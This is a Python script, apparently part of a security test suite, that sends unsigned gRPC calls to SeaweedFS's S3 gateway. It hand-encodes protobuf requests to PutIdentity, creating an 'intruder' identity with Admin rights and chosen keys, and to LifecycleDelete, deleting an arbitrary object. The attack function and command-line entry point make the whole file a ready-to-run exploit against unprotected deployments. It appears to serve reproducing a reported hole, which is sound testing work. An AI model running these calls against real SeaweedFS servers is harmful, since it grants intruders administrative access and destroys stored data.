"""An attacker's unsigned calls to the gRPC services of SeaweedFS's S3 gateway.

weed's S3 gateway serves two services on its gRPC port (the S3 port + 10000)
and on a unix socket, meant for weed's own components:
- `SeaweedS3IamCache/PutIdentity`, for the filer to push identity changes:
  one call adds an identity with any rights;
- `SeaweedS3LifecycleInternal/LifecycleDelete`, for the lifecycle worker:
  one call deletes any object.
Without a `[jwt.filer_signing] key` weed checks neither (issue 23, hole 1).
These are exactly those calls, and nothing from weed's code: each message is
protobuf encoded by hand (weed/pb/iam.proto and s3_lifecycle.proto) and sent
with grpcio's generic unary call.

It runs as a script too, so a test can send the calls from another container
(tests/compose): `python weed_grpc.py TARGET ACCESS_KEY SECRET_KEY BUCKET KEY`
prints one JSON object, {"PutIdentity": {"ok": …, "code": …, "details": …},
"LifecycleDelete": {…}}.
"""

from __future__ import annotations

import json
import sys
from dataclasses import asdict, dataclass

import grpc

PUT_IDENTITY = "/messaging_pb.SeaweedS3IamCache/PutIdentity"
LIFECYCLE_DELETE = "/s3_lifecycle_pb.SeaweedS3LifecycleInternal/LifecycleDelete"
EXPIRATION_DAYS = 1  # s3_lifecycle.proto's ActionKind: a plain delete of the object


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        low, value = value & 0x7F, value >> 7
        out.append(low | (0x80 if value else 0))
        if not value:
            return bytes(out)


def _field(number: int, payload: bytes) -> bytes:
    """A length-delimited protobuf field (wire type 2)."""
    return _varint(number << 3 | 2) + _varint(len(payload)) + payload


def put_identity_request(name: str, access_key: str, secret_key: str) -> bytes:
    """PutIdentityRequest{identity: {name, credentials: [{keys}], actions: ["Admin"]}}."""
    credential = _field(1, access_key.encode()) + _field(2, secret_key.encode())
    identity = _field(1, name.encode()) + _field(2, credential) + _field(3, b"Admin")
    return _field(1, identity)


def lifecycle_delete_request(bucket: str, key: str) -> bytes:
    """LifecycleDeleteRequest{bucket, object_path, action_kind}: no identity to compare."""
    action_kind = _varint(5 << 3) + _varint(EXPIRATION_DAYS)  # field 5, varint
    return _field(1, bucket.encode()) + _field(2, key.encode()) + action_kind


@dataclass(frozen=True)
class Answer:
    ok: bool
    code: str  # the gRPC status name; "OK" when the call was carried out
    details: str


def unsigned_call(
    target: str,
    method: str,
    request: bytes,
    *,
    credentials: grpc.ChannelCredentials | None = None,
    timeout: float = 10,
) -> Answer:
    """`method` on `target` ("host:port" or "unix:/path"), with no token.

    `credentials`: TLS (the store's own client certificate, say); plaintext if None.
    """
    if credentials is None:
        channel = grpc.insecure_channel(target)
    else:  # the store's certificate names localhost, whatever address we dial
        options = [("grpc.ssl_target_name_override", "localhost")]
        channel = grpc.secure_channel(target, credentials, options=options)
    with channel:
        call = channel.unary_unary(method)  # raw bytes in and out: no generated stubs
        try:
            call(request, timeout=timeout)
        except grpc.RpcError as error:
            return Answer(ok=False, code=error.code().name, details=error.details() or "")
    return Answer(ok=True, code="OK", details="")


def attack(target: str, *, access_key: str, secret_key: str, bucket: str, key: str, **kwargs):
    """Both calls: an Admin identity with these keys, then the deletion of `key`."""
    return {
        "PutIdentity": unsigned_call(
            target,
            PUT_IDENTITY,
            put_identity_request("intruder", access_key, secret_key),
            **kwargs,
        ),
        "LifecycleDelete": unsigned_call(
            target, LIFECYCLE_DELETE, lifecycle_delete_request(bucket, key), **kwargs
        ),
    }


if __name__ == "__main__":
    target, access_key, secret_key, bucket, key = sys.argv[1:6]
    answers = attack(target, access_key=access_key, secret_key=secret_key, bucket=bucket, key=key)
    print(json.dumps({name: asdict(answer) for name, answer in answers.items()}))
